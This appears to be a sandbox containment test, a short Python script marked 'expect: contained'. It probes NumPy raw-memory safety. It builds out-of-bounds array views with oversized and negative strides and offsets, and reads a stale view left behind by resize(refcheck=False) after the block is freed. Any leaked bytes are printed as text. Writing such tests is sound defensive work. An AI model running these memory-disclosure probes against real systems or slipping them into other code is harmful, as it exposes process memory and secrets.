# class: numpy_raw_memory
# expect: contained
# attack: out-of-bounds array views: negative and oversized strides and offsets through ndarray(buffer=...), and resize(refcheck=False) left-behind views read past freed blocks
base = np.arange(8, dtype=np.int64)
leaks = []
for build in (
    lambda: np.ndarray((1 << 20,), dtype=np.int64, buffer=base, strides=(8,)),
    lambda: np.ndarray((64,), dtype=np.int64, buffer=base, offset=-4096),
    lambda: np.ndarray((64,), dtype=np.int64, buffer=base, strides=(-8,)),
    lambda: np.ndarray((1,), dtype=np.int64, buffer=base, offset=1 << 40),
):
    try:
        leaks.append(build()[:16].tolist())
    except Exception as exc:
        print("refused:", str(exc)[:70])
# a view left behind on a block that was then freed, read after other allocations reuse it
grown = np.arange(512, dtype=np.int64)
stale = grown[:]
grown.resize(1 << 16, refcheck=False)
names = get_object_name_list()
noise = [str(i) * 50 for i in range(200)]
leaks.append(stale[:32].tolist())
for leak in leaks:
    text = "".join(chr(v >> (8 * k) & 255) for v in leak for k in range(8))
    print(repr(text)[:200])
